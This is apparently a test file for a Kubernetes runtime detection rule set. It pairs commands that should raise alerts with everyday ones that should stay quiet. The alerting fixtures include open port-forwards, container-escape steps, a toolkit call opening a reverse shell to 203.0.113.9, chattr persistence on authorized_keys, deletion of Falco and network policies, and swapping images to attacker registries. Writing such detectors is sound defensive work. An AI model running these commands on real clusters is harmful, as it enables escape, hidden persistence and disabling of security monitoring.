/**
 * A pod made a relay, the first steps out of a container, and files locked in place, through the
 * shipped rule set and the real engine, for a person and a service account: kubectl port-forward or
 * proxy and ssh local forwards open to other hosts (MLS-RAY-019); a user namespace entered as root,
 * a cgroup v1 file system mounted, container-escape toolkits (MLS-RAY-021); kube-hunter (MLS-RAY-024);
 * chattr's immutable and append-only attributes set or cleared (MLS-RAY-016); kubectl from a pod
 * taking down logging and security agents, network and admission policies, Pod Security
 * (MLS-POISON-022), or swapping a workload's image (MLS-POISON-023). Beside each, the everyday
 * neighbours that must stay quiet.
 */
import { describe, it } from 'vitest';
import { expectQuiet as quiet, expectRaised as raises } from './exec-events.test-support.js';

describe('MLS-RAY-019: the pod made a relay for other hosts', () => {
  it('alerts on port-forward or proxy listening beyond loopback and on ssh local forwards open to others', () => {
    raises('MLS-RAY-019', [
      'kubectl port-forward --address=0.0.0.0 svc/ray-head 8265:8265',
      'kubectl port-forward --address localhost,10.0.3.7 svc/ray-head 8265:8265',
      'oc port-forward --address 0.0.0.0 pod/trainer-0 8080',
      "kubectl proxy --address=0.0.0.0 --accept-hosts='.*'",
      'ssh -g -L 8265:ray-head:8265 localhost',
      'ssh -NfgL 8265:ray-head:8265 user@203.0.113.9',
      'ssh -L 0.0.0.0:8265:ray-head:8265 user@203.0.113.9',
      'ssh -L0.0.0.0:8265:ray-head:8265 user@203.0.113.9',
      'ssh -L :8265:ray-head:8265 u@h',
      "ssh -L '*:8265:ray-head:8265' u@h",
      'ssh -L [::]:8265:ray-head:8265 u@h',
      'ssh -o GatewayPorts=yes -L 8265:ray-head:8265 u@h',
      // A loopback forward beside an open one hides nothing.
      'kubectl port-forward svc/a 80:80 & kubectl port-forward --address 0.0.0.0 svc/ray-head 8265:8265',
    ]);
  });

  it('leaves forwards on loopback, the address option of other commands, and -g in another ssh', () => {
    quiet('MLS-RAY-019', [
      'kubectl port-forward svc/ray-head 8265:8265',
      'kubectl port-forward --address localhost svc/ray-head 8265:8265',
      'kubectl port-forward --address 127.0.0.1,::1 svc/ray-head 8265:8265',
      'kubectl proxy --port=8001',
      'kubectl get svc --address 0.0.0.0',
      'ssh -L 8265:ray-head:8265 u@h',
      'ssh -L 127.0.0.1:8265:ray-head:8265 u@h',
      'ssh -L localhost:8265:ray-head:8265 u@h',
      'ssh -L 8265:10.0.0.5:8265 u@h',
      // -l takes the g as the login name.
      'ssh -lg -L 8265:h:8265 u@h',
      'ssh -g u@h; ssh -L 8265:h:8265 u@h',
    ]);
  });
});

describe('MLS-RAY-021: the steps out of the container', () => {
  it('alerts on a user namespace entered as root, a cgroup v1 mount and escape toolkits', () => {
    raises('MLS-RAY-021', [
      'unshare -UrmC bash',
      'unshare --user --map-root-user sh',
      'unshare --map-user=0 sh',
      'mount -t cgroup -o rdma cgroup /tmp/cgrp',
      'mount --types=cgroup cgroup /tmp/c',
      './cdk run shim-pwn reverse 203.0.113.9 4444',
      '/tmp/cdk_linux_amd64 evaluate --full',
      'bash deepce.sh',
      './deepce.sh -e',
      'amicontained',
      'kdigger dig all',
    ]);
  });

  it('leaves namespaces without a user one, other mounts, and the AWS CDK', () => {
    quiet('MLS-RAY-021', [
      'unshare -m sh',
      'unshare -n ip a',
      'mount -t cgroup2 none /sys/fs/cgroup',
      'mount -t tmpfs none /mnt',
      'cdk deploy MyStack',
      'cdk synth',
    ]);
  });
});

describe('MLS-RAY-024: kube-hunter run in a pod', () => {
  it('alerts on a hunt, and leaves its help page', () => {
    raises('MLS-RAY-024', ['kube-hunter --pod', 'kube-hunter']);
    quiet('MLS-RAY-024', ['kube-hunter --help']);
  });
});

describe('MLS-RAY-016: files locked in place or unlocked to be rewritten', () => {
  it('alerts on the immutable or append-only attribute set or cleared', () => {
    raises('MLS-RAY-016', ['chattr -ia /etc/ld.so.preload', 'chattr +i /root/.ssh/authorized_keys', 'chattr -R +i /etc/cron.d', 'chattr =ai /tmp/.x']);
  });

  it('leaves other attributes and lsattr', () => {
    quiet('MLS-RAY-016', ['chattr -R -V +d /data', 'chattr +c /data/logs', 'lsattr /etc/ld.so.preload']);
  });
});

describe('MLS-POISON-022: kubectl from a pod taking down the cluster\'s defenses', () => {
  it('alerts on agents deleted, patched or scaled to zero, fences deleted, Pod Security relaxed, a privileged SCC granted', () => {
    raises('MLS-POISON-022', [
      'kubectl -n falco delete ds falco',
      'kubectl delete daemonset -n kube-system fluentd',
      'kubectl delete pod -n logging fluent-bit-7d9',
      `kubectl patch ds/fluent-bit -n logging -p '{"spec":{"template":{"spec":{"nodeSelector":{"x":"y"}}}}}'`,
      'kubectl scale deploy/falcosidekick --replicas=0 -n falco',
      'kubectl delete networkpolicy --all -n ml-train',
      'kubectl delete netpol,svc deny-egress -n ml-train',
      'kubectl delete ciliumnetworkpolicies.cilium.io egress -n ml-train',
      'kubectl delete validatingwebhookconfiguration gatekeeper-validating-webhook-configuration',
      'kubectl delete constrainttemplates --all',
      'kubectl delete events --all -n ml-train',
      'kubectl label ns ml-train pod-security.kubernetes.io/enforce=privileged --overwrite',
      'kubectl label ns ml-train pod-security.kubernetes.io/enforce-',
      'oc adm policy add-scc-to-user privileged -z default -n ml-train',
    ]);
  });

  it('leaves reading them, other objects, scaling up, warn-only labels and other commands', () => {
    quiet('MLS-POISON-022', [
      'kubectl get netpol -A',
      'kubectl logs -n falco falco-x7k2q --tail 100',
      'kubectl describe ds fluent-bit -n logging',
      'kubectl delete pod trainer-0 -n ml-train',
      'kubectl delete pod my-falco-test -n ml-train',
      'kubectl scale deploy/falcosidekick --replicas=2 -n falco',
      'kubectl scale deploy/trainer --replicas=0 -n ml-train',
      'kubectl label ns ml-train pod-security.kubernetes.io/warn=privileged',
      'kubectl label ns ml-train pod-security.kubernetes.io/enforce=restricted --overwrite',
      'oc adm policy add-scc-to-user restricted-v2 -z default',
      'kubectl get events -n ml-train; echo delete',
    ]);
  });
});

describe("MLS-POISON-023: kubectl from a pod swapping a workload's image", () => {
  it('escalates set image and patches that name an image (merge, YAML, JSON Patch)', () => {
    raises('MLS-POISON-023', [
      'kubectl set image deploy/inference server=docker.io/attacker/triton:latest',
      `kubectl patch deploy trainer -p '{"spec":{"template":{"spec":{"containers":[{"name":"t","image":"203.0.113.9/evil:latest"}]}}}}'`,
      `kubectl patch deploy trainer --type=json -p '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"203.0.113.9/e"}]'`,
      "kubectl -n serving patch deployment llama-serve -p 'spec: {template: {spec: {containers: [{name: s, image: evil}]}}}'",
    ]);
  });

  it('leaves reading images, other settings and other patches', () => {
    quiet('MLS-POISON-023', [
      "kubectl get deploy -o jsonpath='{..image}'",
      'kubectl set env deploy/x A=b',
      `kubectl patch deploy x -p '{"spec":{"replicas":2}}'`,
      `kubectl patch deploy x -p '{"metadata":{"labels":{"imagefix":"true"}}}'`,
      'kubectl describe pod x | grep image',
    ]);
  });
});
